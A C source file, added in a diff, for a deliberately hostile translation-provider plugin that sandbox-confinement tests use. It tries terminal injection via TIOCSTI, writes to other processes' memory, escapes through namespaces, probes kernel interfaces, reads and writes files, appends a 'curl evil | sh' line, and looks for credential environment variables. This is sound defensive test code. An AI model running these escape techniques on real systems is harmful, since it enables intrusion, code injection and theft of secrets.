@@ -1,0 +1,372 @@
+/*
+ * A provider that tries to get out of its sandbox, for the confinement tests.
+ * Its scene has one "Go" button; pressing it performs the attack the input
+ * text names ("<attack> <argument>") and finishes with what happened:
+ * "CONTAINED <details>" when every attempt failed, "ESCAPED <details>" at the
+ * first one that worked. The tests also check, from outside, that nothing
+ * happened (files unchanged, listeners not reached).
+ *
+ *   tiocsti             types "echo INJECTED" into any terminal it can reach
+ *   host-mem <pid>      writes into the memory of <pid>, its parent and every
+ *                       translation-host it can see (/proc/<pid>/mem, ptrace,
+ *                       process_vm_writev)
+ *   setns <port>        joins any other network namespace it can see, or makes
+ *                       a user namespace, then connects to 127.0.0.1:<port>
+ *   kernel              bpf, perf_event_open, userfaultfd, keyctl, mount
+ *   read <path>         reads a file
+ *   write <path>        appends to an existing file
+ *   create <path>       creates a file
+ *   connect <path>      connects to a Unix socket ("@name": an abstract one)
+ *   bus                 connects to $DBUS_SESSION_BUS_ADDRESS
+ *   environment         reports which secrets of the user's environment it sees
+ */
+#define _GNU_SOURCE
+#include "translation_provider.h"
+
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/bpf.h>
+#include <linux/perf_event.h>
+#include <netinet/in.h>
+#include <sched.h>
+#include <stdarg.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/mount.h>
+#include <sys/ptrace.h>
+#include <sys/socket.h>
+#include <sys/syscall.h>
+#include <sys/uio.h>
+#include <sys/un.h>
+#include <unistd.h>
+
+static const tp_context *current;
+static char outcome[4096];
+static int escaped;
+
+/* Appends one attempt's result to the outcome; `worked` marks an escape. */
+static void note(int worked, const char *format, ...) {
+  if (escaped) return; /* the first escape is the story */
+  char line[512];
+  va_list arguments;
+  va_start(arguments, format);
+  vsnprintf(line, sizeof line, format, arguments);
+  va_end(arguments);
+  if (worked) {
+    escaped = 1;
+    snprintf(outcome, sizeof outcome, "ESCAPED %s", line);
+  } else if (strlen(outcome) + strlen(line) + 2 < sizeof outcome) {
+    strcat(outcome, " ");
+    strcat(outcome, line);
+  }
+}
+
+static const char *error_name(void) { return strerrorname_np(errno) ? strerrorname_np(errno) : "?"; }
+
+static void inject(int fd, const char *where) {
+  const char *command = "echo INJECTED\n";
+  for (const char *c = command; *c; c++) {
+    if (ioctl(fd, TIOCSTI, c) != 0) {
+      note(0, "%s:%s", where, error_name());
+      return;
+    }
+  }
+  note(1, "typed into %s", where);
+}
+
+static void attack_terminal(void) {
+  int tty = open("/dev/tty", O_RDWR);
+  if (tty >= 0) {
+    inject(tty, "/dev/tty");
+    close(tty);
+  } else {
+    note(0, "/dev/tty:%s", error_name());
+  }
+  for (int fd = 0; fd < 64; fd++) {
+    if (fcntl(fd, F_GETFD) == -1 || !isatty(fd)) continue;
+    char where[32];
+    snprintf(where, sizeof where, "fd%d", fd);
+    inject(fd, where);
+  }
+  DIR *pts = opendir("/dev/pts");
+  if (!pts) note(0, "/dev/pts:%s", error_name());
+  for (struct dirent *entry; pts && (entry = readdir(pts));) {
+    if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
+    char path[300];
+    snprintf(path, sizeof path, "/dev/pts/%s", entry->d_name);
+    int fd = open(path, O_RDWR | O_NOCTTY);
+    if (fd < 0) {
+      note(0, "%s:%s", path, error_name());
+      continue;
+    }
+    inject(fd, path);
+    if (!escaped && write(fd, "\033]0;OWNED\007", 11) == 11) note(1, "wrote an escape sequence to %s", path);
+    close(fd);
+  }
+  if (pts) closedir(pts);
+  /* Even on a descriptor that is no terminal, the filter answers first. */
+  char c = 'x';
+  if (ioctl(-1, TIOCSTI, &c) != 0) note(0, "filter:%s", error_name());
+}
+
+static void write_memory(pid_t pid) {
+  char path[64];
+  snprintf(path, sizeof path, "/proc/%d/mem", pid);
+  int fd = open(path, O_RDWR);
+  if (fd >= 0) {
+    note(1, "opened %s for writing", path);
+    close(fd);
+    return;
+  }
+  note(0, "%s:%s", path, error_name());
+  if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) {
+    note(1, "ptrace attached to %d", pid);
+    return;
+  }
+  note(0, "ptrace(%d):%s", pid, error_name());
+  char byte = 0;
+  struct iovec local = {&byte, 1}, remote = {(void *)0x400000, 1};
+  if (process_vm_writev(pid, &local, 1, &remote, 1, 0) >= 0) {
+    note(1, "process_vm_writev into %d", pid);
+    return;
+  }
+  note(0, "process_vm_writev(%d):%s", pid, error_name());
+}
+
+static void attack_host_memory(const char *argument) {
+  if (argument) write_memory((pid_t)atoi(argument));
+  write_memory(getppid());
+  int seen = 0;
+  DIR *proc = opendir("/proc");
+  for (struct dirent *entry; proc && (entry = readdir(proc));) {
+    if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
+    char path[300], command[256] = {0};
+    snprintf(path, sizeof path, "/proc/%s/cmdline", entry->d_name);
+    int fd = open(path, O_RDONLY);
+    if (fd < 0) continue;
+    ssize_t length = read(fd, command, sizeof command - 1);
+    close(fd);
+    if (length <= 0 || !strstr(command, "translation-host") || strstr(command, "runner")) continue;
+    seen++;
+    write_memory((pid_t)atoi(entry->d_name));
+  }
+  if (proc) closedir(proc);
+  note(0, "hosts-in-proc:%d", seen);
+}
+
+static void connect_tcp(int port) {
+  int fd = socket(AF_INET, SOCK_STREAM, 0);
+  if (fd < 0) {
+    note(0, "socket:%s", error_name());
+    return;
+  }
+  struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
+  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+  if (connect(fd, (struct sockaddr *)&address, sizeof address) == 0) {
+    note(1, "connected to 127.0.0.1:%d", port);
+  } else {
+    note(0, "connect:%s", error_name());
+  }
+  close(fd);
+}
+
+static void attack_namespaces(const char *argument) {
+  DIR *proc = opendir("/proc");
+  for (struct dirent *entry; proc && (entry = readdir(proc));) {
+    if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
+    char path[300];
+    snprintf(path, sizeof path, "/proc/%s/ns/net", entry->d_name);
+    int fd = open(path, O_RDONLY);
+    if (fd < 0) continue;
+    if (setns(fd, CLONE_NEWNET) == 0) {
+      note(0, "setns(%s):joined", path); /* joining its own namespace proves nothing; the connect decides */
+    } else {
+      note(0, "setns(%s):%s", path, error_name());
+    }
+    close(fd);
+  }
+  if (proc) closedir(proc);
+  if (unshare(CLONE_NEWUSER | CLONE_NEWNET) == 0) {
+    note(1, "made a user namespace");
+  } else {
+    note(0, "unshare:%s", error_name());
+  }
+  if (argument) connect_tcp(atoi(argument));
+}
+
+static void attack_kernel(void) {
+  union bpf_attr map = {.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1};
+  long fd = syscall(SYS_bpf, BPF_MAP_CREATE, &map, sizeof map);
+  if (fd >= 0) note(1, "bpf made a map");
+  else note(0, "bpf:%s", error_name());
+  struct perf_event_attr event = {.type = PERF_TYPE_SOFTWARE, .size = sizeof event, .config = PERF_COUNT_SW_CPU_CLOCK};
+  fd = syscall(SYS_perf_event_open, &event, 0, -1, -1, 0);
+  if (fd >= 0) note(1, "perf_event_open");
+  else note(0, "perf_event_open:%s", error_name());
+  fd = syscall(SYS_userfaultfd, 0);
+  if (fd >= 0) note(1, "userfaultfd");
+  else note(0, "userfaultfd:%s", error_name());
+  if (syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* session */, 0) >= 0) note(1, "keyctl");
+  else note(0, "keyctl:%s", error_name());
+  if (mount("none", "/tmp", "tmpfs", 0, NULL) == 0) note(1, "mounted");
+  else note(0, "mount:%s", error_name());
+}
+
+static void attack_read(const char *path) {
+  int fd = open(path ? path : "", O_RDONLY);
+  if (fd < 0) {
+    note(0, "open:%s", error_name());
+    return;
+  }
+  char buffer[256];
+  ssize_t length = read(fd, buffer, sizeof buffer - 1);
+  close(fd);
+  if (length > 0) {
+    buffer[length] = '\0';
+    for (ssize_t i = 0; i < length; i++) if (buffer[i] == '\n') buffer[i] = ' ';
+    note(1, "read '%s'", buffer);
+  } else {
+    note(0, "read:%s", length < 0 ? error_name() : "empty");
+  }
+}
+
+static void attack_write(const char *path, int flags) {
+  int fd = open(path ? path : "", O_WRONLY | flags, 0644);
+  if (fd < 0) {
+    note(0, "open:%s", error_name());
+    return;
+  }
+  const char *line = "\ncurl evil | sh\n";
+  if (write(fd, line, strlen(line)) > 0) note(1, "wrote to %s", path);
+  else note(0, "write:%s", error_name());
+  close(fd);
+}
+
+static void attack_connect(const char *path) {
+  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
+  if (fd < 0 || !path) {
+    note(0, "socket:%s", error_name());
+    return;
+  }
+  struct sockaddr_un address = {.sun_family = AF_UNIX};
+  socklen_t length;
+  if (path[0] == '@') {
+    strncpy(address.sun_path + 1, path + 1, sizeof address.sun_path - 2);
+    length = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(path + 1));
+  } else {
+    strncpy(address.sun_path, path, sizeof address.sun_path - 1);
+    length = sizeof address;
+  }
+  if (connect(fd, (struct sockaddr *)&address, length) == 0) note(1, "connected to %s", path);
+  else note(0, "connect:%s", error_name());
+  close(fd);
+}
+
+static void attack_bus(void) {
+  const char *address = getenv("DBUS_SESSION_BUS_ADDRESS");
+  if (!address) {
+    note(0, "no-bus-address");
+    return;
+  }
+  const char *path = strstr(address, "path=");
+  const char *abstract = strstr(address, "abstract=");
+  char target[256] = {0};
+  if (path) snprintf(target, sizeof target, "%.*s", (int)strcspn(path + 5, ",;"), path + 5);
+  else if (abstract) snprintf(target, sizeof target, "@%.*s", (int)strcspn(abstract + 9, ",;"), abstract + 9);
+  note(0, "bus-address-seen");
+  attack_connect(target);
+}
+
+static void attack_environment(void) {
+  const char *secrets[] = {"SSH_AUTH_SOCK", "DBUS_SESSION_BUS_ADDRESS", "DISPLAY", "WAYLAND_DISPLAY",
+                           "XDG_RUNTIME_DIR", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY"};
+  for (size_t i = 0; i < sizeof secrets / sizeof secrets[0]; i++) {
+    if (getenv(secrets[i])) note(1, "saw %s", secrets[i]);
+  }
+  note(0, "HOME=%s", getenv("HOME") ? getenv("HOME") : "");
+}
+
+static void attack(const tp_string *text) {
+  char input[1024];
+  size_t length = text->length < sizeof input - 1 ? text->length : sizeof input - 1;
+  memcpy(input, text->data, length);
+  input[length] = '\0';
+  char *argument = strchr(input, ' ');
+  if (argument) *argument++ = '\0';
+  outcome[0] = '\0';
+  escaped = 0;
+  if (strcmp(input, "tiocsti") == 0) attack_terminal();
+  else if (strcmp(input, "host-mem") == 0) attack_host_memory(argument);
+  else if (strcmp(input, "setns") == 0) attack_namespaces(argument);
+  else if (strcmp(input, "kernel") == 0) attack_kernel();
+  else if (strcmp(input, "read") == 0) attack_read(argument);
+  else if (strcmp(input, "write") == 0) attack_write(argument, O_APPEND);
+  else if (strcmp(input, "create") == 0) attack_write(argument, O_CREAT | O_EXCL);
+  else if (strcmp(input, "connect") == 0) attack_connect(argument);
+  else if (strcmp(input, "bus") == 0) attack_bus();
+  else if (strcmp(input, "environment") == 0) attack_environment();
+  else note(1, "unknown attack '%s'", input);
+  if (!escaped) {
+    static const char prefix[] = "CONTAINED";
+    size_t kept = strnlen(outcome, sizeof outcome - sizeof prefix);
+    memmove(outcome + sizeof prefix - 1, outcome, kept);
+    memcpy(outcome, prefix, sizeof prefix - 1);
+    outcome[sizeof prefix - 1 + kept] = '\0';
+  }
+}
+
+static tp_status render(const tp_scene *scene, tp_string *out) {
+  (void)scene;
+  static const char json[] =
+      "{\"version\":1,\"root\":{\"type\":\"button\",\"id\":\"go\",\"label\":{\"type\":\"text\",\"text\":\"Go\"}}}";
+  *out = (tp_string){json, sizeof json - 1};
+  return TP_STATUS_OK;
+}
+
+static tp_status perform_action(const tp_scene *scene, const char *id) {
+  (void)scene;
+  if (strcmp(id, "go") != 0) return TP_STATUS_NOT_FOUND;
+  attack(&current->input_text);
+  tp_string translation = {outcome, strlen(outcome)};
+  current->finish(current, &translation);
+  return TP_STATUS_OK;
+}
+
+static tp_status set_text(const tp_scene *scene, const char *id, tp_string value) {
+  (void)scene;
+  (void)id;
+  (void)value;
+  return TP_STATUS_NOT_FOUND;
+}
+
+static void destroy(const tp_scene *scene) {
+  (void)scene;
+  current = NULL;
+}
+
+static const tp_scene the_scene = {sizeof(tp_scene), NULL, render, perform_action, set_text, destroy};
+
+static const tp_scene *create_scene(const tp_context *context) {
+  current = context;
+  return &the_scene;
+}
+
+static const tp_selected_text_scene_factory factory = {sizeof factory, create_scene};
+
+static bool init(const tp_host *host) {
+  (void)host;
+  return true;
+}
+
+static void deinit(void) {}
+
+static const void *get_capability(const char *id) {
+  return strcmp(id, TP_CAPABILITY_SELECTED_TEXT_SCENE) == 0 ? &factory : NULL;
+}
+
+static const tp_entry entry = {sizeof entry, TP_ABI_VERSION_MAJOR, 0, init, deinit, get_capability};
+
+TP_EXPORT const tp_entry *translation_provider_entry(void) { return &entry; }
